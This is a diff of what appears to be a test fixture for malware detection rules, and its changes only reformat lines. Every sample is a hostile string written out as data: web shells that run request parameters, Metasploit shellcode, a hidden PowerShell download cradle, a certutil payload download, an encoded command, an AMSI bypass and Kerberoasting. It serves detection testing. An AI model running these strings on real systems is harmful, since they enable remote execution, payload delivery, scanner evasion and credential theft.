@@ -29,14 +29,20 @@ const CASES: Record<string, Buffer> = {
     '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request.Form["c"]; p.Start(); }</script>',
   ),
   Quarry_Webshell_JSP_Runtime_Exec: ascii('<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
-  Quarry_CobaltStrike_Beacon_Config: Buffer.from([0, 0, 0x2e, 0x2f, 0x2e, 0x2f, 0x2e, 0x2c, 0x2e, 0x2f, 0x2e, 0x2d, 0x2e, 0x2f, 0x2e, 0x2c, 0x2e, 0x2a, 0x2e, 0x2c, 0x2e, 0x2f, 0x2e, 0x2d, 0, 0]),
+  Quarry_CobaltStrike_Beacon_Config: Buffer.from([
+    0, 0, 0x2e, 0x2f, 0x2e, 0x2f, 0x2e, 0x2c, 0x2e, 0x2f, 0x2e, 0x2d, 0x2e, 0x2f, 0x2e, 0x2c, 0x2e, 0x2a, 0x2e, 0x2c, 0x2e, 0x2f, 0x2e, 0x2d, 0, 0,
+  ]),
   Quarry_CobaltStrike_Default_Artefacts: wide('CreateNamedPipe \\\\.\\pipe\\MSSE-4412-server'),
   Quarry_Metasploit_Shellcode_BlockApi: Buffer.from('fce8820000006089e531c0648b50308b520c8b52148b72280fb74a2631ff', 'hex'),
   Quarry_Metasploit_Meterpreter_Strings: ascii('....metsrv.x64.dll....ReflectiveLoader....'),
   Quarry_Metasploit_PsExec_PowerShell_Payload: ascii('%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){...}"'),
   Quarry_PowerShell_Download_Cradle: wide("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"),
-  Quarry_PowerShell_Encoded_Command: ascii('powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'),
-  Quarry_PowerShell_AMSI_Bypass: ascii("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
+  Quarry_PowerShell_Encoded_Command: ascii(
+    'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+  ),
+  Quarry_PowerShell_AMSI_Bypass: ascii(
+    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+  ),
   Quarry_PowerShell_Offensive_Frameworks: wide('Invoke-Kerberoast -OutputFormat Hashcat'),
   Quarry_PowerShell_Reflective_Assembly_Load: ascii('[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))'),
   Quarry_LOLBIN_Certutil_Download: ascii('certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe'),
